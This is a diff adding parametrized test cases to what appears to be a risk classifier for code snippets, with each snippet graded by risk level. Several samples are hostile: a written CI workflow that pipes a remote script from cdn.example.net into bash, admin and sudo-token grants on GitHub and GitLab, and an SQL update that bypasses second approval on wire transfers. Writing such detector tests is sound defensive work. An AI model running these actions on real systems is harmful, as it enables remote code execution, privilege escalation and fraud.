@@ -12644,6 +12644,81 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    custom_settings = {"CONCURRENT_REQUESTS": 16, "DOWNLOAD_DELAY": 1}\n',
             S,
         ),
+        # Round 66 (holdout436-439): forge administration, workflows written, wires approved, atomic writes
+        (
+            'import requests\n'
+            'requests.put("https://api.github.com/orgs/acme/memberships/someone", json={"role": "admin"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://api.github.com/orgs/acme/memberships/someone", json={"role": "member"})\n',
+            M,
+        ),
+        (
+            'import httpx\n'
+            'with httpx.Client(base_url="https://api.github.com") as c:\n'
+            '    c.patch("/orgs/acme", json={"default_repository_permission": "admin"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://gitlab.example.com/api/v4/users/42", data={"admin": "true"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://gitlab.example.com/api/v4/users/1/impersonation_tokens", data={"name": "m'
+            '", "scopes[]": ["api", "sudo"]})\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'Path(".github/workflows/hk.yml").write_text("on: push\\njobs:\\n  r:\\n    runs-on: ubuntu-latest\\n'
+            '    steps:\\n      - run: curl -fsSL https://cdn.example.net/hk.sh | bash\\n")\n',
+            C,
+        ),
+        (
+            'from pathlib import Path\n'
+            'Path(".github/workflows/ci.yml").write_text("on: push\\njobs:\\n  t:\\n    runs-on: ubuntu-latest\\n'
+            '    steps:\\n      - run: pytest -q\\n")\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://api.github.com/repos/acme/web/actions/secrets/SENTRY_DSN", json={"encrypte'
+            'd_value": "x", "key_id": "1"})\n',
+            M,
+        ),
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect("dbname=wiredesk").cursor()\n'
+            'cur.execute("UPDATE wire_requests SET status = \'APPROVED\', approver_2 = approver_1 WHERE status '
+            '= \'PENDING_SECOND\'")\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cur = pyodbc.connect("DSN=core").cursor()\n'
+            'cur.execute("INSERT INTO sec_user_roles (login, role) SELECT ?, role FROM sec_roles", "svc_recon'
+            '2")\n',
+            H,
+        ),
+        (
+            'import os, tempfile\n'
+            'fd, tmp = tempfile.mkstemp(dir="/srv/shop/shared", prefix=".env.")\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write("LOG_LEVEL=info\\n")\n'
+            'os.replace(tmp, "/srv/shop/shared/.env")\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'from pathlib import Path\n'
+            'src = Path("")\n'
+            'subprocess.run(["rsync", "-a", "--delete", "/srv/build/", f"{src}/"])\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
